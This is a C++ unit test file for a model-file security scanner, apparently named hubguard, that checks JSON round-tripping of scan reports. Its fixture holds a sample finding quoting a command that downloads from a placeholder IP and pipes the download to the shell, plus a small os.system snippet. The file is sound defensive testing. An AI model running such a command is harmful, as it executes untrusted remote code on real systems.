#include "hubguard/report/file_report_json.hpp"

#include <gtest/gtest.h>

#include <sstream>

#include "hubguard/report/writers.hpp"

namespace hubguard::report {
namespace {

FileReport rich_report() {
  FileReport file;
  file.path = "models/owner/name/model.pt";
  file.format = "pytorch-zip";
  file.size = 123456789012ull;
  file.sha256 = std::string(64, 'a');
  Finding f;
  f.rule = "pickle.dangerous-call";
  f.severity = Severity::critical;
  f.verdict = Verdict::malicious;
  f.category = "shell-command";
  f.message = "calls os.system";
  f.location = {"archive/data.pkl", 42};
  f.evidence = "os.system('curl http://1.2.3.4/x | sh')";
  f.indicators = {{"ip", "1.2.3.4"}, {"url", "http://1.2.3.4/x"}};
  file.findings.push_back(f);
  Finding g;
  g.rule = "zip.crc-mismatch";
  g.severity = Severity::low;
  g.verdict = Verdict::suspicious;
  g.category = "format-anomaly";
  g.message = "crc differs";
  file.findings.push_back(g);
  file.error = "member truncated";
  file.formats_seen = {"pytorch-zip", "zip", "pickle"};
  file.programs = {{"archive/data.pkl", "from os import system\nsystem('id')"}};
  file.finalize();
  return file;
}

void expect_same(const FileReport& a, const FileReport& b) {
  EXPECT_EQ(a.path, b.path);
  EXPECT_EQ(a.format, b.format);
  EXPECT_EQ(a.size, b.size);
  EXPECT_EQ(a.sha256, b.sha256);
  EXPECT_EQ(a.verdict, b.verdict);
  EXPECT_EQ(a.error, b.error);
  EXPECT_EQ(a.formats_seen, b.formats_seen);
  ASSERT_EQ(a.findings.size(), b.findings.size());
  for (std::size_t i = 0; i < a.findings.size(); ++i) {
    const auto& x = a.findings[i];
    const auto& y = b.findings[i];
    EXPECT_EQ(x.rule, y.rule);
    EXPECT_EQ(x.severity, y.severity);
    EXPECT_EQ(x.verdict, y.verdict);
    EXPECT_EQ(x.category, y.category);
    EXPECT_EQ(x.message, y.message);
    EXPECT_EQ(x.location.member, y.location.member);
    EXPECT_EQ(x.location.offset, y.location.offset);
    EXPECT_EQ(x.evidence, y.evidence);
    ASSERT_EQ(x.indicators.size(), y.indicators.size());
    for (std::size_t k = 0; k < x.indicators.size(); ++k) {
      EXPECT_EQ(x.indicators[k].kind, y.indicators[k].kind);
      EXPECT_EQ(x.indicators[k].value, y.indicators[k].value);
    }
  }
  ASSERT_EQ(a.programs.size(), b.programs.size());
  for (std::size_t i = 0; i < a.programs.size(); ++i) {
    EXPECT_EQ(a.programs[i].member, b.programs[i].member);
    EXPECT_EQ(a.programs[i].text, b.programs[i].text);
  }
}

TEST(FileReportJson, RoundTripsEveryField) {
  const FileReport original = rich_report();
  auto back = file_report_from_json(file_report_to_json(original));
  ASSERT_TRUE(back.ok()) << back.error().message;
  expect_same(original, *back);
}

TEST(FileReportJson, RoundTripsThroughTextAndBinaryEncodings) {
  const FileReport original = rich_report();
  auto text = nlohmann::json::parse(file_report_to_json(original).dump());
  auto from_text = file_report_from_json(text);
  ASSERT_TRUE(from_text.ok()) << from_text.error().message;
  expect_same(original, *from_text);
  auto from_cbor = file_report_from_json(
      nlohmann::json::from_cbor(nlohmann::json::to_cbor(file_report_to_json(original))));
  ASSERT_TRUE(from_cbor.ok()) << from_cbor.error().message;
  expect_same(original, *from_cbor);
}

TEST(FileReportJson, CleanFileWithoutOptionalFieldsRoundTrips) {
  FileReport file;
  file.path = "a.npy";
  file.format = "numpy";
  file.finalize();
  auto j = file_report_to_json(file);
  EXPECT_TRUE(j["sha256"].is_null());
  EXPECT_TRUE(j["error"].is_null());
  EXPECT_FALSE(j.contains("programs"));
  auto back = file_report_from_json(j);
  ASSERT_TRUE(back.ok()) << back.error().message;
  expect_same(file, *back);
}

TEST(FileReportJson, IsTheShapeScanJsonWrites) {
  Report report;
  report.files = {rich_report()};
  std::ostringstream out;
  write_json(report, out);
  auto written = nlohmann::json::parse(out.str());
  EXPECT_EQ(written["files"][0], file_report_to_json(report.files[0]));
  auto back = file_report_from_json(written["files"][0]);
  ASSERT_TRUE(back.ok()) << back.error().message;
  expect_same(report.files[0], *back);
}

TEST(FileReportJson, MalformedInputIsAnErrorNotAnException) {
  auto good = file_report_to_json(rich_report());
  std::vector<nlohmann::json> bad;
  bad.push_back(nlohmann::json::array());
  bad.push_back(nlohmann::json("text"));
  for (const char* key : {"path", "format", "size", "verdict", "findings", "formats_seen"}) {
    auto j = good;
    j.erase(key);
    bad.push_back(j);
  }
  {
    auto j = good;
    j["size"] = -1;
    bad.push_back(j);
  }
  {
    auto j = good;
    j["verdict"] = "harmless";
    bad.push_back(j);
  }
  {
    auto j = good;
    j["findings"][0]["severity"] = 7;
    bad.push_back(j);
  }
  {
    auto j = good;
    j["findings"][0]["location"] = "x";
    bad.push_back(j);
  }
  {
    auto j = good;
    j["findings"][0]["indicators"][0] = 5;
    bad.push_back(j);
  }
  {
    auto j = good;
    j["programs"] = {{{"member", 1}}};
    bad.push_back(j);
  }
  {
    auto j = good;
    j["formats_seen"] = {1, 2};
    bad.push_back(j);
  }
  for (const auto& j : bad) {
    auto r = file_report_from_json(j);
    EXPECT_FALSE(r.ok()) << j.dump();
    if (!r.ok()) {
      EXPECT_FALSE(r.error().message.empty());
    }
  }
}

TEST(FileReportJson, VerdictIsNeverBetterThanTheFindings) {
  auto j = file_report_to_json(rich_report());
  j["verdict"] = "clean";
  auto back = file_report_from_json(j);
  ASSERT_TRUE(back.ok()) << back.error().message;
  EXPECT_EQ(back->verdict, Verdict::malicious);
}

}  // namespace
}  // namespace hubguard::report
